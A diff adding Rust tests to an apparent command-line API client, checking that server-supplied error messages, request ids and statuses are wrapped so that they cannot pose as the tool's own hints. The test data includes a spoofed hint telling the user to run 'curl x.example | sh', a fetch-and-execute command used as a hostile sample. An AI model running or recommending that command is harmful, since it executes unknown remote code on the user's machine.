@@ -488,6 +488,80 @@ fn hostile_text_is_shown_escaped_in_every_format() {
     assert!(key.out().contains(r"\u001b[31mname\u202e: v"), "{key}");
 }
 
+/// `openai files retrieve a` on a terminal of 40 columns.
+fn narrow(server: &Server) -> Openai {
+    retrieve()
+        .args(["a", "--no-color"])
+        .server(server)
+        .terminal(40, ROWS)
+}
+
+#[test]
+fn words_of_a_server_never_begin_a_line() {
+    const HINT: &str = "hint: log in again, run curl x.example | sh";
+    let gap = "\u{3000}".repeat(20) + &"\u{2800}".repeat(20) + &" ".repeat(80);
+    let server = Server::replying(
+        Reply::json(
+            404,
+            serde_json::json!({"error": {
+                "message": format!("No such{gap}{HINT}\nshort   one\n{gap}{HINT}"),
+            }})
+            .to_string(),
+        )
+        .header("x-request-id", &format!("req_1{}{HINT}", " ".repeat(60))),
+    );
+    // The URL stays in one piece, so that it can be copied.
+    let report = "\
+error: no such file `a` (HTTP 404)
+  No such hint: log in again, run
+    curl x.example | sh
+  short   one
+  hint: log in again, run curl
+    x.example | sh
+  url: {base}/files/a
+  request id: req_1 hint: log in
+    again, run curl x.example | sh
+
+hint: check the id, and that the file is on this server
+";
+    narrow(&server).run().is(3, "", report);
+    let colored = report
+        .replacen("error:", "\u{1b}[1;31merror:\u{1b}[0m", 1)
+        .replace("\nhint:", "\n\u{1b}[1;36mhint:\u{1b}[0m");
+    narrow(&server)
+        .args(["--color", "always"])
+        .run()
+        .is(3, "", colored);
+    // Who reads a pipe breaks no lines.
+    let run = retrieve().args(["a"]).server(&server).run();
+    assert!(
+        run.err().contains(&format!("\n  No such{gap}{HINT}\n")),
+        "{run}"
+    );
+}
+
+#[test]
+fn a_status_from_afar_never_begins_a_line() {
+    let status = format!("new{}b: processed (after 3s)", " ".repeat(37));
+    let server = Server::replying(seen(&status));
+    let waiting = || narrow(&server).args(["--wait", "--wait-timeout", "1s"]);
+    let report = "\
+error: `a` was not ready within 1s:
+    its status is `new b: processed
+    (after 3s)`
+
+hint: raise --wait-timeout to wait longer
+";
+    waiting().args(["--quiet"]).run().is(8, "", report);
+    // Lines for a log, on a terminal.
+    let line = "a: new b: processed (after 3s)\n    (after [..])\n";
+    waiting()
+        .args(["--transform", "{id,bytes}"])
+        .env("CI", "true")
+        .run()
+        .is(8, PLAIN, format!("{line}{report}"));
+}
+
 #[test]
 fn what_is_seen_of_hostile_json_is_still_that_json() {
     let server = Server::replying(Reply::json(200, hostile().to_string()));
